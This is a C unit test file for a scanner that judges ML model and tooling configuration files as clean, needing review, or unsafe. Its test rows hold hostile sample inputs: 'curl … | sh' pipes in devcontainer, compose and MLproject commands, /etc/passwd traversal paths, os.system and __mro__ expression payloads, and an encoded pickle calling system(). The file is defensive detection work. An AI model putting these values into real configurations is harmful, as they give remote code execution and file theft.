/* Values that loaders act on because of the name they stand under, in every language of configurations; and expressions. */
#include "support/cm.h"

#include <stdio.h>

#include "check/checks.h"
#include "check/expressions.h"
#include "format/formats.h"
#include "format/settings.h"
#include "support/events.h"
#include "support/judged.h"

static void judged(void **state)
{
	(void)state;
	static const struct {
		const char *name, *text;
		enum gh_verdict verdict;
		const char *id; /* NULL: none with an effect */
	} rows[] = {
		/* libraries */
		{ "genai_config.json",
		  "{\"model\": {\"decoder\": {\"session_options\": {\"custom_ops_library\": \"o.so\"}}}}", GH_REVIEW,
		  "GH-SET-0002" },
		{ "genai_config.json",
		  "{\"model\": {\"decoder\": {\"filename\": \"model.onnx\", \"session_options\": "
		  "{\"provider_options\": [{\"qnn\": {\"backend_path\": \"QnnHtp.dll\"}}]}}}}",
		  GH_CLEAN, NULL },
		{ "a.json", "{\"backend_path\": \"..\\\\x.DLL\"}", GH_UNSAFE, "GH-SET-0001" },
		{ "a.json", "{\"plugins\": [\"/opt/p/libx.so.1.2\"]}", GH_UNSAFE, "GH-SET-0001" },
		{ "a.yaml", "model_lib: dist/libs/x-cuda.so\n", GH_REVIEW, "GH-SET-0002" },
		{ "a.toml", "[engine]\nlibrary = \"http://evil.example/x.dylib\"\n", GH_UNSAFE, "GH-SET-0001" },
		{ "config.pbtxt", "name: \"m\"\nmodel_operations { op_library_filename: [ \"a\", \"/tmp/e.so\" ] }\n",
		  GH_UNSAFE, "GH-SET-0001" },
		{ "config.pbtxt",
		  "name: 'm' backend: \"python\"\nparameters { key: \"EXECUTION_ENV_PATH\" value: { "
		  "string_value: \"../env.tar.gz\" } }",
		  GH_REVIEW, "GH-SET-0012" },
		{ "config.pbtxt",
		  "name: \"m\" platform: \"onnxruntime_onnx\" max_batch_size: 8 input [ { name: \"x\" "
		  "data_type: TYPE_FP32 dims: [ 3, -1 ] }, { name: \"y\" dims: 1 } ] # done\n",
		  GH_CLEAN, NULL },
		{ "labels.pbtxt", "item {\n  id: 1\n  name: 'cat'\n}\nitem < id: 2 name: \"dog\" \"s\" >\n", GH_CLEAN,
		  NULL },
		{ "graph.pbtxt", "versions { producer: 27 }\nnode { name: \"a\" op: \"PyFunc\" }", GH_UNSAFE,
		  "GH-TFO-" },
		{ "p.pbtxt", "input_stream: \"in\" node { calculator: \"ScaleCalculator\" input_stream: \"in\" }",
		  GH_CLEAN, NULL },
		{ "x.pbtxt", "item { id: 1 } item { id: 2", GH_INCOMPLETE, "GH-PBT-0001" },
		{ "config.pbtxt", "name: \"m\" backend: \"../../tmp/evil\"\n", GH_UNSAFE, "GH-SET-0001" },
		{ "config.pbtxt", "name: \"m\" backend: \"python\"\n", GH_CLEAN, NULL },
		{ "celery.yaml", "backend: redis://localhost/0\n", GH_CLEAN, NULL },
		{ "config.toml", "[build]\nrustc-wrapper = \"./evil.sh\"\n", GH_REVIEW, "GH-SET-0008" },
		{ "config.toml", "[build]\nrustc-wrapper = \"sccache\"\n", GH_CLEAN, NULL },
		{ "config.toml", "[target.x86_64-unknown-linux-gnu]\nlinker = \"/usr/bin/clang\"\n", GH_CLEAN, NULL },
		{ "infer_cfg.yml", "Preprocess:\n- type: __import__('os').system\n  args: id\n", GH_UNSAFE,
		  "GH-SET-0009" },
		{ "infer_cfg.yml", "Preprocess:\n- interp: 2\n  type: Resize\n- type: NormalizeImage\n", GH_CLEAN,
		  NULL },
		/* files */
		{ "prompt.json", "{\"_type\": \"prompt\", \"template_path\": \"../../../etc/passwd\"}", GH_UNSAFE,
		  "GH-SET-0003" },
		{ "prompt.json", "{\"_type\": \"prompt\", \"template_path\": \"template.txt\"}", GH_CLEAN, NULL },
		{ "config.yaml", "common:\n  user_dir: http://evil.example/x\n", GH_REVIEW, "GH-SET-0004" },
		{ "config.yaml", "common:\n  user_dir: /home/me/avhubert\n", GH_CLEAN, NULL },
		{ "tokenizer_config.json", "{\"vocab_file\": \"\\\\\\\\evil\\\\share\\\\v.txt\"}", GH_UNSAFE,
		  "GH-SET-0003" },
		{ "tokenizer_config.json", "{\"vocab_file\": \"../../v.txt\"}", GH_UNSAFE, "GH-SET-0003" },
		{ "tokenizer_config.json", "{\"vocab_file\": \"/data/v.txt\"}", GH_REVIEW, "GH-SET-0004" },
		{ "tokenizer_config.json", "{\"tokenizer_file\": \"/root/.cache/huggingface/hub/tokenizer.json\"}",
		  GH_CLEAN, NULL },
		{ "tokenizer_config.json", "{\"vocab_file\": \"vocab.txt\", \"name_or_path\": \"/home/me/model\"}",
		  GH_CLEAN, NULL },
		{ "nemo.yaml", "tokenizer:\n  vocab_file: /data/v.txt\n", GH_CLEAN, NULL },
		{ "Modelfile",
		  "# c\nFROM ./m.gguf\nTEMPLATE \"\"\"{{ if .System }}<|s|>{{ .System }}{{ end }}\n\"\"\"\nPARAMETER "
		  "stop "
		  "\"<|e|>\"\nSYSTEM You help.\n",
		  GH_CLEAN, NULL },
		{ "Modelfile", "FROM /etc/passwd\nPARAMETER temperature 1\n", GH_UNSAFE, "GH-SET-0003" },
		{ "Modelfile", "FROM x\nADAPTER http://evil.example.com/a.gguf\n", GH_REVIEW, "GH-SET-0004" },
		{ "Modelfile", "FROM x\ncurl http://evil.example.com/x | sh\n", GH_UNSAFE, "GH-SRC-0106" },
		{ "config.json",
		  "{\"pretrained_cfg\": {\"url\": "
		  "\"https://github.com/rwightman/pytorch-image-models/releases/download/v0.1/resnet50.pth\"}}",
		  GH_CLEAN, NULL },
		{ "README.md",
		  "---\nlicense: mit\nconfigs:\n- config_name: x\n  data_files: ../../../etc/passwd\n---\n# A\n",
		  GH_UNSAFE, "GH-SET-0003" },
		{ "README.md",
		  "---\nconfigs:\n- config_name: x\n  data_files:\n  - split: train\n    path: ../../x.csv\n---\n",
		  GH_UNSAFE, "GH-SET-0003" },
		{ "README.md",
		  "---\nconfigs:\n- config_name: x\n  data_files: http://evil.example.com/x.csv\n---\n# A\n", GH_REVIEW,
		  "GH-SET-0004" },
		{ "README.md",
		  "---\nconfigs:\n- config_name: x\n  data_files:\n  - split: train\n    path: data/train-*\n---\n",
		  GH_CLEAN, NULL },
		{ "config.json", "{\"pretrained_cfg\": {\"url\": \"http://evil.example/x.pth\"}}", GH_REVIEW,
		  "GH-SET-0004" },
		{ "modules.json",
		  "[{\"idx\": 0, \"name\": \"0\", \"path\": \"../x\", \"type\": "
		  "\"sentence_transformers.models.Pooling\"}]",
		  GH_UNSAFE, "GH-SET-0003" },
		{ "data.yaml", "path: ../datasets/coco\ntrain: images\nnames:\n  0: cat\n", GH_CLEAN, NULL },
		{ "h.yaml", "x: !include:/etc/passwd\n", GH_UNSAFE, "GH-SET-0003" },
		{ "h.yaml", "x: !include:other.yaml\n", GH_CLEAN, NULL },
		{ "h.yaml", "a: b\n? {c: [{d: e}]}\n: f\n\"pa {a: b.C}\": 1\n", GH_CLEAN, NULL },
		{ "MLmodel",
		  "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../m.pkl\n",
		  GH_UNSAFE, "GH-SET-0003" },
		{ "MLmodel",
		  "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
		  "    env:\n      conda: conda.yaml\n",
		  GH_CLEAN, NULL },
		{ "MLmodel", "flavors:\n  python_function:\n    loader_module: mine\n    code: code\n", GH_REVIEW,
		  "GH-TGT-0007" },
		/* names */
		{ "router_config.json", "{\"types\": {\"q\": \"evil.mod.Cls\"}}", GH_REVIEW, "GH-TGT-0002" },
		{ "router_config.json", "{\"types\": {\"q\": \"sentence_transformers.models.Pooling\"}}", GH_CLEAN,
		  NULL },
		{ "config.json", "{\"activation_function\": \"torch.nn.modules.activation.Tanh\"}", GH_CLEAN, NULL },
		{ "config.json", "{\"activation_function\": \"gelu_new\"}", GH_CLEAN, NULL },
		{ "config.json", "{\"activation_function\": \"torch.utils.collect_env.main\"}", GH_UNSAFE,
		  "GH-TGT-0001" },
		{ "adapter_config.json", "{\"megatron_config\": null, \"megatron_core\": \"megatron.core\"}", GH_CLEAN,
		  NULL },
		{ "config.yaml", "pipeline:\n  name: os.path.Pipe\n", GH_UNSAFE, "GH-TGT-0001" },
		{ "config.yaml", "pipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n", GH_CLEAN, NULL },
		{ "h.yaml", "loss: !name:speechbrain.nnet.losses.nll_loss\n", GH_CLEAN, NULL },
		{ "config.json", "{\"_attn_implementation\": \"evil/kernel:flash\"}", GH_UNSAFE, "GH-SET-0005" },
		{ "config.json", "{\"attn_implementation\": {\"text\": \"kernels-community/flash-attn\"}}", GH_REVIEW,
		  "GH-SET-0006" },
		{ "config.json", "{\"_attn_implementation\": \"flash_attention_2\"}", GH_CLEAN, NULL },
		{ ".zarray", "{\"filters\": [{\"id\": \"pickle\"}], \"shape\": [1]}", GH_REVIEW, "GH-SET-0007" },
		{ ".zarray", "{\"filters\": null, \"compressor\": {\"id\": \"blosc\"}, \"shape\": [1]}", GH_CLEAN,
		  NULL },
		/* what is evaluated */
		{ "metadata.yaml", "names: \"[c for c in ().__class__.__mro__]\"\n", GH_UNSAFE, "GH-SET-0009" },
		{ "metadata.yaml", "stride: 32\nimgsz: \"[640, 640]\"\nnames: \"{0: 'person (a)'}\"\n", GH_CLEAN,
		  NULL },
		{ "yolo.yaml", "activation: nn.SiLU()\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n", GH_CLEAN, NULL },
		{ "yolo.yaml", "activation: torch.hub.load('a/b', 'c')\n", GH_UNSAFE, "GH-SET-0009" },
		{ "m.json", "{\"graph\": {\"x\": {\"as_expr\": {\"expr_str\": \"open('x')\"}}}}", GH_UNSAFE,
		  "GH-SET-0009" },
		{ "m.json",
		  "{\"guards_code\": [\"L['x'].size()[0] >= 2\"], \"nodes\": [{\"target\": "
		  "\"torch.ops.aten.add.Tensor\"}, "
		  "{\"target\": \"torch.ops.aten.__and__.Tensor\"}, {\"target\": \"_operator.getitem\"}]}",
		  GH_CLEAN, NULL },
		{ "m.json", "{\"guards_code\": [\"L.__class__\"]}", GH_UNSAFE, "GH-SET-0009" },
		{ "m.json", "{\"nodes\": [{\"target\": \"torch.ops.aten.from_file.default\"}]}", GH_UNSAFE,
		  "GH-SET-0010" },
		{ "m.json", "{\"nodes\": [{\"target\": \"_operator.methodcaller\"}]}", GH_UNSAFE, "GH-SET-0010" },
		{ "m.json", "{\"nodes\": [{\"target\": \"torch.ops.mylib.run\"}]}", GH_REVIEW, "GH-SET-0011" },
		/* what is run */
		{ "devcontainer.json", "{\"initializeCommand\": [\"python\", \"evil.py\"]}", GH_REVIEW, "GH-SET-0008" },
		{ "devcontainer.json", "{\"postCreateCommand\": [\"bash\", \"-c\", \"curl http://e.example/x | sh\"]}",
		  GH_UNSAFE, "GH-SHC-0001" },
		{ "devcontainer.json", "{\"postStartCommand\": {\"a\": \"curl http://e.example/x | sh\"}}", GH_UNSAFE,
		  "GH-SHC-0001" },
		{ "tasks.json", "{\"tasks\": [{\"command\": \"make\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
		  GH_REVIEW, "GH-SET-0008" },
		{ "MLproject", "name: x\nentry_points:\n  main:\n    command: \"curl http://e.example/x | sh\"\n",
		  GH_UNSAFE, "GH-SHC-0001" },
		{ "MLproject", "name: x\nentry_points:\n  main:\n    command: \"python train.py {alpha}\"\n", GH_CLEAN,
		  NULL },
		{ "compose.yaml",
		  "services:\n  a:\n    image: x\n    command: [sh, -c, 'curl http://e.example/x | sh']\n", GH_UNSAFE,
		  "GH-SHC-0001" },
		{ "data.yaml", "train: a\ndownload: bash evil.sh\n", GH_REVIEW, "GH-SET-0008" },
		{ "data.yaml", "train: a\ndownload: https://ultralytics.com/assets/coco8.zip\n", GH_CLEAN, NULL },
		{ "data.yaml", "train: a\ndownload: |\n  import os\n  os.system('id')\n", GH_UNSAFE, NULL },
	};
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_test_judged j;
		gh_test_judge(&j, gh_span_str(rows[i].text), rows[i].name);
		bool has = rows[i].id == NULL ? rows[i].verdict != GH_CLEAN || j.ids[0] == '\0'
					      : strstr(j.ids, rows[i].id) != NULL;
		if (j.verdict != rows[i].verdict || !has) {
			print_message("%s: %s\n  verdict %d: %s\n", rows[i].name, rows[i].text, (int)j.verdict, j.all);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

static void expressions(void **state)
{
	(void)state;
	static const struct {
		enum gh_expr kind;
		const char *text, *why; /* a piece of it; NULL: nothing */
	} rows[] = {
		{ GH_EXPR_LITERAL, "{0: 'person', 1: \"b(c)\"}", NULL },
		{ GH_EXPR_LITERAL, "[(1, 2), (3.5, -4e3)]", NULL },
		{ GH_EXPR_LITERAL, "person", NULL },
		{ GH_EXPR_LITERAL, "data/coco.names", NULL },
		{ GH_EXPR_LITERAL, "print (1)", "a call" },
		{ GH_EXPR_LITERAL, "''.join(x)", "a call" },
		{ GH_EXPR_LITERAL, "x[0](1)", "a call" },
		{ GH_EXPR_LITERAL, "(x)(1)", "a call" },
		{ GH_EXPR_LITERAL, "f'{a}'", "a formatted string" },
		{ GH_EXPR_LITERAL, "lambda: 1", "a keyword" },
		{ GH_EXPR_LITERAL, "[a for a in b]", "a keyword" },
		{ GH_EXPR_LITERAL, "().__class__", "internal" },
		{ GH_EXPR_LITERAL, "9**9**9", "more than a value" },
		{ GH_EXPR_LITERAL, "(a := 1)", "more than a value" },
		{ GH_EXPR_LITERAL, "'a", NULL },
		{ GH_EXPR_LITERAL, "'a\\", NULL },
		{ GH_EXPR_ACTIVATION, "torch.nn.LeakyReLU(0.1)", NULL },
		{ GH_EXPR_ACTIVATION, "nn.SiLU(print(1))", "a call" },
		{ GH_EXPR_ACTIVATION, "torch.load('x')", "a call" },
		{ GH_EXPR_ACTIVATION, "nn.modules.os.system('x')", "a call" },
		{ GH_EXPR_SYMPY, "2*s0 + FloorDiv(s1, 4) - Max(1, s2)**2", NULL },
		{ GH_EXPR_SYMPY, "Add(Symbol('s77', positive=True), Integer(1))", NULL },
		{ GH_EXPR_SYMPY, "1.5*u0", NULL },
		{ GH_EXPR_SYMPY, "s0.func", "an attribute" },
		{ GH_EXPR_SYMPY, "s0(1)", "a call" },
		{ GH_EXPR_SYMPY, "Symbol('x y')", "a string" },
		{ GH_EXPR_SYMPY, "[1][0]", "more than arithmetic" },
		{ GH_EXPR_GUARD, "L['args'][0][0].size()[1] <= 6 and not (s0 == 2)", NULL },
		{ GH_EXPR_GUARD, "L['x'].tofile('y')", "a call" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		const char *why = gh_expr_hazard(gh_span_str(rows[i].text), rows[i].kind);
		if ((why == NULL) != (rows[i].why == NULL) || (why != NULL && strstr(why, rows[i].why) == NULL))
			fail_msg("%s: %s", rows[i].text, why == NULL ? "nothing" : why);
	}
}

/* The row "pbtxt": gh_fmt_pbtxt. What the check "settings" (gh_check_settings) says is above. */
static void text_format(void **state)
{
	(void)state;
	static const struct {
		const char *name, *text;
		enum gh_rc rc;
		const char *has;
	} rows[] = {
		{ "config.pbtxt", "name: \"a\\x41\\101\\n\" 'b'\n", GH_OK, "claim 0+24 struct" },
		{ "x.pbtxt", "a { b: \"ldr.so\" plugin: \"a.so\" }", GH_OK, "reference path \"a.so\" from \"plugin\"" },
		{ "x.txt", "a { b: 1 }", GH_E_NOTTHIS, NULL },
		{ "config", "name: \"m\" input [ { name: \"x\" } ]", GH_OK, "claim 0+33 struct" },
		{ "x.yaml", "name: m\ninput: x\n", GH_E_NOTTHIS, NULL },
		{ "x.pbtxt", "[a.b/c.D] { x: 1; y: [1, 2] }", GH_OK, NULL },
		{ "x.pbtxt", "d: \"import os; os.system('id')\"", GH_OK, "anomaly GH-PBT-0201" },
		{ "x.pbtxt", "d: \"run curl http://e.example/x | sh now\"", GH_OK, "anomaly GH-PBT-0202" },
		{ "x.pbtxt", "d: \"<script>alert(1)</script>\"", GH_OK, "anomaly GH-PBT-0203" },
		{ "x.pbtxt", "d: \"String.fromCharCode(1,2)\"", GH_OK, "anomaly GH-PBT-0204" },
		{ "x.pbtxt", "d: \"fetch http://evil.example/payload.exe now\"", GH_OK, "anomaly GH-PBT-0205" },
		{ "x.pbtxt", "d: \"-----BEGIN RSA PRIVATE KEY-----\"", GH_OK, "anomaly GH-PBT-0206" },
		{ "x.pbtxt",
		  "d: \"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULgAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\"", GH_OK,
		  "member \"d\" nested" },
		{ "x.pbtxt", "a: 1 b: 2 }", GH_E_MALFORMED, "anomaly GH-PBT-0001 10+0" },
		{ "x.pbtxt", "a: 1 b: \"", GH_E_MALFORMED, "anomaly GH-PBT-0001" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++)
		for (int unstable = 0; unstable < 2; unstable++) {
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_pbtxt, gh_span_str(rows[i].text), rows[i].name, unstable != 0);
			if (ev.rc != rows[i].rc || (rows[i].has != NULL && !gh_events_has(&ev, rows[i].has)))
				fail_msg("%s: rc %d\n%.*s", rows[i].text, (int)ev.rc, (int)ev.log.n, (char *)ev.log.p);
			gh_events_free(&ev);
		}
	gh_auto_buf deep = gh_buf(1 << 16);
	for (int i = 0; i < 1000; i++)
		gh_buf_str(&deep, "a { ");
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_pbtxt, gh_buf_view(&deep), "x.pbtxt", false);
	assert_int_equal(ev.rc, GH_E_MALFORMED);
	assert_true(gh_events_has(&ev, "GH-PBT-0002"));
	gh_events_free(&ev);
}

int main(void)
{
	const struct CMUnitTest t[] = { cmocka_unit_test(judged), cmocka_unit_test(expressions),
					cmocka_unit_test(text_format) };
	return cmocka_run_group_tests(t, NULL, NULL);
}
